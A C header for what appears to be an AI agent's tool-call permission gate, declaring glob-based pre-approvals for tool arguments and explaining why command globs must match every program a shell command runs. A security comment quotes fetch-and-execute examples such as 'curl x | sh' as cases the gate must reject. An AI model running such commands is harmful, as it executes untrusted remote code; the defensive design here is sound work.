/* Pre-approvals (the configuration's "approvals") and the argument globs
 * the gate also uses for the answers it remembers: a case-sensitive glob on
 * one named string argument of one tool, never on another argument or
 * another tool. Internal to the gate. */
#ifndef MOAT_GATE_PREAPPROVE_H
#define MOAT_GATE_PREAPPROVE_H

#include <stdbool.h>
#include <stddef.h>

#include <jansson.h>

#include <moat/error.h>

#include "core/config.h"
#include "core/glob.h"

/* How an argument's value is read (moat_arg_kind). */
enum moat_arg_kind {
	MOAT_ARG_TEXT = 0, /* a text glob on the value ('*' crosses '/') */
	MOAT_ARG_PATH,	   /* a path glob; a value with a ".." component never matches */
	MOAT_ARG_COMMAND,  /* a shell command: the whole text and every program it
			    * runs must match; see moat_arg_match */
};

/* A glob on one named argument of one tool. */
struct moat_arg_glob {
	char *tool; /* canonical */
	char *arg;
	enum moat_arg_kind kind;
	struct moat_glob *glob;
};

/* The kind of TOOL's argument ARG: a command for bash's "command" and a
 * declared tool's command_arg, a path for the path-like names of the policy
 * (core/path.h) and a declared tool's path_args, text otherwise. cfg may be
 * NULL. */
enum moat_arg_kind moat_arg_kind_of(const struct moat_config *cfg, const char *tool,
				    const char *arg);

/* Compile pattern for (tool, arg): -EINVAL with err for a bad glob, -ENOMEM. */
int moat_arg_glob_init(struct moat_arg_glob *ag, const struct moat_config *cfg, const char *tool,
		       const char *arg, const char *pattern, struct moat_error *err);
void moat_arg_glob_release(struct moat_arg_glob *ag);

/* True when the call (canonical tool, argument object) is covered: same
 * tool, the named argument present and a string, and its value matches.
 *
 * SECURITY: for a command, the glob must match the whole command text (so
 * "git *" does not cover "FOO=x git log" or "sudo git log") and also every
 * program the command would run, as the shell analysis sees them (so "git *"
 * does not cover "git log; curl x | sh" nor "git log $(curl x)"); a command
 * that cannot be parsed, whose programs cannot be known before running, or
 * that redirects output into a file is never covered. For a path, a ".."
 * component never matches (a glob over a directory must not cover a path
 * that climbs out of it). */
bool moat_arg_glob_match(const struct moat_arg_glob *ag, const char *tool, json_t *args);

/* The compiled "approvals" of a configuration. Immutable and thread-safe. */
struct moat_preapprovals;

int moat_preapprovals_new(const struct moat_config *cfg, struct moat_preapprovals **ret,
			  struct moat_error *err);
struct moat_preapprovals *moat_preapprovals_free(struct moat_preapprovals *p);

/* The index of the first entry covering the call, or -1. With a match,
 * rule gets its id ("approvals:bash.command:git *") and where its place in
 * the configuration ("config.json:3:5", "" when unknown). */
long moat_preapprovals_match(const struct moat_preapprovals *p, const char *tool, json_t *args,
			     char *rule, size_t rulesz, char *where, size_t wheresz);
size_t moat_preapprovals_count(const struct moat_preapprovals *p);

#endif
